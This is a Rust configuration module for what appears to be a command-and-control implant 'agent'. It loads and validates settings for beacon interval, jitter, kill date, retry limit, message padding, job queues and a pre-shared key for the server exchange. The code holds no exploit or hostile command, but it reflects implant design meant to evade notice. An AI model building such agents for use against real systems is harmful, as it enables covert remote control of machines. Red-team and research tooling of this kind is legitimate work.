//! Agent configuration: TOML file with serde defaults, validated before the
//! agent starts.

use std::path::Path;

use anyhow::{ensure, Context, Result};
use serde::{Deserialize, Serialize};

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default)]
pub struct Config {
    /// Server address as host:port.
    pub server_addr: String,
    /// Pre-shared key for the PAKE exchange. Must match the server.
    pub psk: String,
    /// Base beacon interval in seconds.
    pub sleep_secs: u64,
    /// Maximum random jitter added to each sleep, in milliseconds.
    pub skew_ms: u64,
    /// Unix timestamp after which the agent exits. Zero disables it.
    pub kill_date: i64,
    /// Consecutive failed beacons tolerated before giving up.
    pub max_retry: u32,
    /// Maximum message padding length. Zero disables padding.
    pub padding_max: usize,
    /// Capacity of the inbound and outbound job queues.
    pub queue_capacity: usize,
    /// Concurrent job execution ceiling.
    pub max_tasks: usize,
    /// Lifetime of self-issued bearer tokens in seconds.
    pub token_lifetime_secs: u64,
}

impl Default for Config {
    fn default() -> Self {
        Self {
            server_addr: String::new(),
            psk: String::new(),
            sleep_secs: 30,
            skew_ms: 3000,
            kill_date: 0,
            max_retry: 7,
            padding_max: 4096,
            queue_capacity: 100,
            max_tasks: 64,
            token_lifetime_secs: 300,
        }
    }
}

impl Config {
    pub fn load(path: &Path) -> Result<Self> {
        let raw = std::fs::read_to_string(path)
            .with_context(|| format!("reading config file {}", path.display()))?;
        let config: Config = toml::from_str(&raw)
            .with_context(|| format!("parsing config file {}", path.display()))?;
        Ok(config)
    }

    pub fn validate(&self) -> Result<()> {
        ensure!(!self.server_addr.is_empty(), "server_addr must be set");
        ensure!(!self.psk.is_empty(), "psk must be set");
        ensure!(self.queue_capacity >= 1, "queue_capacity must be at least 1");
        ensure!(self.max_tasks >= 1, "max_tasks must be at least 1");
        ensure!(self.max_retry >= 1, "max_retry must be at least 1");
        ensure!(
            self.token_lifetime_secs >= 1,
            "token_lifetime_secs must be at least 1"
        );
        Ok(())
    }
}
